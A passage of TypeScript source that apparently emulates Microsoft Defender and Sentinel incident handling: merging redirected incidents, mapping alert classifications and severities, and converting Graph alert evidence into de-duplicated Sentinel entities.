  target.customTags = [...new Set([...target.customTags, ...source.customTags])];
  source.customTags = [];
  source.systemTags = [...new Set([...source.systemTags, "Redirected"])];
  source.status = "redirected";
  source.redirectIncidentId = target.id;
  const rank = (s: string) => SEVERITY_RANK[s] ?? 0;
  if (rank(source.severity) > rank(target.severity)) target.severity = source.severity;
  source.lastUpdateDateTime = stamp;
  target.lastUpdateDateTime = stamp;
  source.lastModifiedBy = CORRELATION_ACTOR;
  target.lastModifiedBy = CORRELATION_ACTOR;
}

/** Defender classification/determination → Sentinel closing classification (+ reason), as the connector maps. */
export function classificationToSentinel(
  classification: string | null | undefined,
  determination: string | null | undefined,
): { classification: string; classificationReason?: string } {
  switch ((classification ?? "").toLowerCase()) {
    case "truepositive":
      return { classification: "TruePositive", classificationReason: "SuspiciousActivity" };
    case "informationalexpectedactivity":
      return { classification: "BenignPositive", classificationReason: "SuspiciousButExpected" };
    case "falsepositive":
      return {
        classification: "FalsePositive",
        classificationReason:
          determination === "notEnoughDataToValidate" ? "InaccurateData" : "IncorrectAlertLogic",
      };
    default:
      return { classification: "Undetermined" };
  }
}

export function productOf(serviceSource: string): Product {
  return PRODUCTS.find((p) => p.serviceSource === serviceSource) ?? PRODUCTS[0]!;
}

function sentinelAlertProperties(a: GraphAlert): Record<string, unknown> {
  const product = productOf(a.serviceSource);
  return {
    systemAlertId: undefined, // filled by the workspace (a GUID)
    alertDisplayName: a.title,
    alertType: product.sentinelAlertType,
    alertLink: a.alertWebUrl,
    severity: { high: "High", medium: "Medium", low: "Low" }[a.severity] ?? "Informational",
    status: a.status === "resolved" ? "Resolved" : a.status === "inProgress" ? "InProgress" : "New",
    description: a.description,
    productName: product.sentinelProductName,
    providerAlertId: a.id,
    vendorName: "Microsoft",
    confidenceLevel: "Unknown",
    tactics: TACTICS.has(a.category) ? [a.category] : [],
    techniques: [...new Set(a.mitreTechniques.map((m) => m.split(".")[0]!))],
    startTimeUtc: a.firstActivityDateTime,
    endTimeUtc: a.lastActivityDateTime,
    timeGenerated: a.createdDateTime,
    processingEndTime: a.createdDateTime,
    additionalData: { "Detection source": a.detectionSource, "Service source": a.serviceSource },
    friendlyName: a.title,
  };
}

/** Sentinel entities (`kind` + properties) for the evidence of some alerts, de-duplicated. */
export function entitiesOf(alerts: GraphAlert[]): { kind: string; properties: Record<string, unknown> }[] {
  const out = new Map<string, { kind: string; properties: Record<string, unknown> }>();
  const add = (kind: string, friendlyName: string, properties: Record<string, unknown>) => {
    const key = `${kind}|${friendlyName}`;
    if (!out.has(key)) out.set(key, { kind, properties: { friendlyName, ...properties } });
  };
  for (const alert of alerts) {
    for (const e of alert.evidence) {
      const type = e["@odata.type"].replace("#microsoft.graph.security.", "");
      const f = e as Record<string, any>;
      switch (type) {
        case "deviceEvidence":
          add("Host", String(f.hostName), {
            hostName: f.hostName,
            dnsDomain: f.dnsDomain,
            ntDomain: f.ntDomain,
            osFamily: f.osPlatform,
            omsAgentID: undefined,
          });
          break;
        case "userEvidence":
          add("Account", String(f.userAccount?.accountName), {
            accountName: f.userAccount?.accountName,
            ntDomain: f.userAccount?.domainName,
            upnSuffix: String(f.userAccount?.userPrincipalName ?? "").split("@")[1],
            aadUserId: f.userAccount?.azureAdUserId,
            sid: f.userAccount?.userSid,
            displayName: f.userAccount?.displayName,
          });
          break;
        case "ipEvidence":
          add("Ip", String(f.ipAddress), {
            address: f.ipAddress,
            location: { countryCode: f.countryLetterCode, city: f.location?.city },
          });
          break;
        case "urlEvidence":
          add("Url", String(f.url), { url: f.url });
          break;
        case "fileEvidence":
          add("File", String(f.fileDetails?.fileName), {
            fileName: f.fileDetails?.fileName,
            directory: f.fileDetails?.filePath,
          });
          break;
        case "processEvidence":
          add("Process", `${f.imageFile?.fileName ?? "process"}:${f.processId}`, {
            processId: String(f.processId),
            commandLine: f.processCommandLine,
            creationTimeUtc: f.processCreationDateTime,
          });
          break;
        case "mailboxEvidence":
          add("Mailbox", String(f.primaryAddress), {
            mailboxPrimaryAddress: f.primaryAddress,
            displayName: f.displayName,
            upn: f.upn,
          });
          break;
        case "analyzedMessageEvidence":
          add("MailMessage", String(f.networkMessageId), {
            networkMessageId: f.networkMessageId,
            recipient: f.recipientEmailAddress,
            subject: f.subject,
            senderIP: f.senderIp,
            p1Sender: f.p1Sender?.emailAddress,
            deliveryAction: f.deliveryAction,
          });
          break;
        case "mailClusterEvidence":
          add("MailCluster", String(f.clusterByValue), {
            clusterSourceIdentifier: f.clusterByValue,
            query: f.query,
            mailCount: f.emailCount,
          });
          break;
        case "registryKeyEvidence":
        case "registryValueEvidence":
          add("RegistryKey", `${f.registryHive}\\${f.registryKey}`, {
            hive: f.registryHive,
            key: f.registryKey,
          });
          break;
        case "cloudApplicationEvidence":
          add("CloudApplication", String(f.displayName), {
            appId: f.appId,
            appName: f.displayName,
            instanceName: f.instanceName,
          });
          break;
        case "securityGroupEvidence":
          add("SecurityGroup", String(f.displayName), {
            distinguishedName: f.distinguishedName,
            sid: f.sid,
            objectGuid: f.activeDirectoryObjectGuid,
          });
          break;
        default:
          break;
      }
    }
  }
  return [...out.values()].map((e) => ({ kind: e.kind, properties: dropUndefined(e.properties) }));
}

function dropUndefined(o: Record<string, unknown>): Record<string, unknown> {
  return Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined));
}

function maxTicks(a: bigint, b: bigint): bigint {
  return a > b ? a : b;
}

function minOf(values: string[]): string | undefined {
  return values.reduce<string | undefined>(
    (m, v) => (m === undefined || (parseTimestamp(v, 9) ?? 0n) < (parseTimestamp(m, 9) ?? 0n) ? v : m),
    undefined,
  );
}

function maxOf(values: string[]): string | undefined {
  return values.reduce<string | undefined>(
    (m, v) => (m === undefined || (parseTimestamp(v, 9) ?? 0n) > (parseTimestamp(m, 9) ?? 0n) ? v : m),
    undefined,
  );
}
